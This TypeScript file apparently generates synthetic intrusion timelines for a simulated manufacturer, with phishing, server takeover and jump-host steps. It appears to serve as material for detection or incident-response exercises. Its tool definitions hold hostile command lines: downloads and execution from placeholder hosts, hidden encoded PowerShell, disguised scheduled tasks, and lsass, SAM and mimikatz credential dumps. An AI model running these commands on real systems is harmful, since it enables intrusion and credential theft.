import type { Step, Story } from '../kit/pack.ts'
import { openMail, reachControl, reachJump, readDrawings, takeServer, tirePlanner } from './acts.ts'
import type { Intrusion, Tools } from './acts.ts'
import { plantOf, STAFF } from './company.ts'

type Provider = readonly [asn: number, city: string, country: string]

const intrusion = (id: string, code: string, host: number, victim: number, tools: Tools, turn: Intrusion['turn'] = 0): Intrusion => ({ id, plant: plantOf(code), address: `203.0.113.${host}`, victim, tools, turn })

const storyOf = ({ id }: Intrusion, steps: readonly Step[], entities: readonly string[]): Story => {
  const jump = steps.find((s) => s.id === `${id}-jump`)
  return { id: `two-years-${id}`, steps, crossing: jump === undefined ? null : { step: jump.id, from: 'enterprise', to: 'dmz' }, entities }
}

/** What was taken on the way by a mail: desk, production system and, further on, the administrator's account. */
function mailed(one: Intrusion, steps: readonly Step[], reach: 'server' | 'jump' | 'station'): Story {
  const { staff, server, services, admins, jump, station } = one.plant
  const { account, workstation } = staff[one.victim]!
  const held = [[workstation, account, one.address, server, services[one.turn]], [admins[one.turn], jump], [station]]
  return storyOf(one, steps, held.slice(0, ['server', 'jump', 'station'].indexOf(reach) + 1).flat())
}

const signedIn = (one: Intrusion, steps: readonly Step[]): Story => storyOf(one, steps, [one.plant.staff[STAFF.planner]!.account, one.address])

const SHELL = 'System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const TEMP = 'C:\\Windows\\Temp'
const LOADER = 'C:\\Windows\\System32\\rundll32.exe'

const scripts: Tools = { document: 'WINWORD.EXE', interpreter: 'System32\\wscript.exe', given: '"C:\\Users\\Public\\offer_2291.js"', task: 'OneDriveSync', taskRuns: ['powershell.exe', '-nop -w hidden -enc SQBFAFgAIAAoAE4A'], dump: [`${TEMP}\\procdump64.exe`, `procdump64.exe -accepteula -ma lsass.exe ${TEMP}\\l.dmp`] }
const sheets: Tools = { document: 'EXCEL.EXE', interpreter: 'System32\\mshta.exe', given: 'https://cdn.price-list.example/q2.hta', task: 'GoogleUpdaterTask', taskRuns: ['mshta.exe', 'https://cdn.price-list.example/u.hta'], dump: [LOADER, `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 ${TEMP}\\mes.bin full`] }
const notes: Tools = { document: 'ONENOTE.EXE', interpreter: SHELL, given: '-ep bypass -w 1 -c "iwr https://files.note-share.example/s|iex"', task: 'AdobeNotify', taskRuns: ['cmd.exe', '/c start /min powershell -ep bypass -f C:\\Users\\Public\\a.ps1'], dump: [`${TEMP}\\pd.exe`, `pd.exe -ma lsass.exe ${TEMP}\\1.tmp`] }
const libraries: Tools = { document: 'WINWORD.EXE', interpreter: 'System32\\regsvr32.exe', given: '/s /u /i:https://get.tender-docs.example/t.sct scrobj.dll', task: 'JavaUpdateCheck', taskRuns: ['regsvr32.exe', '/s C:\\Users\\Public\\jusched.ocx'], dump: [`C:\\Windows\\${SHELL}`, 'powershell.exe -c "Get-Process lsass | Out-Minidump"'] }
const consoles: Tools = { document: 'OUTLOOK.EXE', interpreter: 'System32\\cmd.exe', given: '/c curl -so %TEMP%\\k.cmd https://in.freight-desk.example/k && %TEMP%\\k.cmd', task: 'TeamsCache', taskRuns: ['cmd.exe', '/c %APPDATA%\\k.cmd'], dump: ['C:\\PerfLogs\\nd.exe', 'nd.exe --nanodump --write C:\\PerfLogs\\r.log'] }
const archives: Tools = { document: 'EXCEL.EXE', interpreter: 'System32\\cscript.exe', given: '//e:vbscript "C:\\Users\\Public\\tarif.log"', task: 'PrinterHealth', taskRuns: ['cscript.exe', '//e:vbscript C:\\Users\\Public\\tarif.log'], dump: ['C:\\ProgramData\\svc\\mim.exe', 'mim.exe sekurlsa::logonpasswords exit'] }
const fetchers: Tools = { document: 'WINWORD.EXE', interpreter: 'System32\\certutil.exe', given: '-urlcache -f https://d.safety-sheet.example/m.b64 C:\\Users\\Public\\m.b64', task: 'EdgeUpdateUA', taskRuns: ['C:\\Users\\Public\\m.exe', '-q'], dump: ['C:\\Windows\\System32\\reg.exe', 'reg.exe save hklm\\sam C:\\Users\\Public\\s.hiv'] }
const jobs: Tools = { document: 'ONENOTE.EXE', interpreter: 'System32\\bitsadmin.exe', given: '/transfer n https://v.year-end.example/v.exe C:\\Users\\Public\\v.exe', task: 'WindowsTips', taskRuns: ['C:\\Users\\Public\\v.exe', '/background'], dump: [`${TEMP}\\lz.exe`, 'lz.exe lazagne all -oA'] }

const lyon2024 = intrusion('i01', 'LYO', 41, STAFF.clerk, scripts)
const ghentSpring = intrusion('i02', 'GNT', 52, STAFF.planner, scripts)
const porto2024 = intrusion('i03', 'PRT', 63, STAFF.clerk, sheets)
const linz2024 = intrusion('i04', 'LNZ', 74, STAFF.clerk, notes)
const brno2024 = intrusion('i05', 'BRN', 85, STAFF.planner, scripts)
const ghentAutumn = intrusion('i06', 'GNT', 96, STAFF.clerk, libraries)
const porto2025 = intrusion('i07', 'PRT', 107, STAFF.planner, scripts)
const lyon2025 = intrusion('i08', 'LYO', 118, STAFF.planner, consoles, 1)
const linz2025 = intrusion('i09', 'LNZ', 129, STAFF.planner, archives, 1)
const brno2025 = intrusion('i10', 'BRN', 140, STAFF.clerk, fetchers)
const lyonNow = intrusion('i11', 'LYO', 151, STAFF.operator, jobs, 2)

const TALLINN: Provider = [64701, 'Tallinn', 'EE']
const SOFIA: Provider = [64702, 'Sofia', 'BG']
const RIGA: Provider = [64703, 'Riga', 'LV']

/** The first: a month from the mail to the boilers. */
export const first: Story = mailed(lyon2024, [
  ...openMail(lyon2024, '2024-02-12', '09:41:10'), ...takeServer(lyon2024, '2024-02-27', '23:12', 150), ...reachJump(lyon2024, '2024-03-12', '00:48:10', 96), ...reachControl(lyon2024, '2024-03-12', '00:56', 14),
], 'station')

/** Those after it, none of which has to do with another. */
export const closed: readonly Story[] = [
  signedIn(ghentSpring, [...tirePlanner(ghentSpring, '2024-05-14', '08:22:05', TALLINN), ...readDrawings(ghentSpring, '2024-05-17', '22:03:40', TALLINN, 70)]),
  mailed(porto2024, [...openMail(porto2024, '2024-06-03', '10:12:40'), ...takeServer(porto2024, '2024-06-12', '22:40', 95), ...reachJump(porto2024, '2024-06-20', '01:31:20', 41)], 'jump'),
  mailed(linz2024, [...openMail(linz2024, '2024-08-20', '07:55:30'), ...takeServer(linz2024, '2024-08-29', '23:30', 80)], 'server'),
  signedIn(brno2024, [...tirePlanner(brno2024, '2024-09-17', '09:05:20', SOFIA), ...readDrawings(brno2024, '2024-09-19', '21:44:10', SOFIA, 60)]),
  mailed(ghentAutumn, [
    ...openMail(ghentAutumn, '2024-10-28', '13:20:15'), ...takeServer(ghentAutumn, '2024-11-06', '22:15', 60), ...reachJump(ghentAutumn, '2024-11-13', '02:12:30', 70), ...reachControl(ghentAutumn, '2024-11-13', '02:21', 12),
  ], 'station'),
  signedIn(porto2025, [...tirePlanner(porto2025, '2025-02-11', '08:40:50', RIGA), ...readDrawings(porto2025, '2025-02-12', '21:10:15', RIGA, 64)]),
  mailed(lyon2025, [...openMail(lyon2025, '2025-04-22', '11:02:10'), ...takeServer(lyon2025, '2025-04-25', '22:50', 45), ...reachJump(lyon2025, '2025-04-29', '01:20:40', 30)], 'jump'),
  mailed(linz2025, [...openMail(linz2025, '2025-07-08', '08:31:00'), ...takeServer(linz2025, '2025-07-09', '22:05', 40), ...reachJump(linz2025, '2025-07-11', '00:15:10', 18)], 'jump'),
  mailed(brno2025, [...openMail(brno2025, '2025-10-07', '09:14:25'), ...takeServer(brno2025, '2025-10-08', '22:31', 35)], 'server'),
]

const untilServer = [...openMail(lyonNow, '2025-12-27', '10:21:30'), ...takeServer(lyonNow, '2025-12-30', '21:40', 50)]

/** The last one, still on the jump host when the logs end. */
export const open: Story = mailed(lyonNow, [...untilServer, ...reachJump(lyonNow, '2025-12-31', '20:40:20', null)], 'jump')

/** The last one when the production system was cleaned on the evening before. */
export const stopped: Story = mailed(lyonNow, untilServer, 'server')
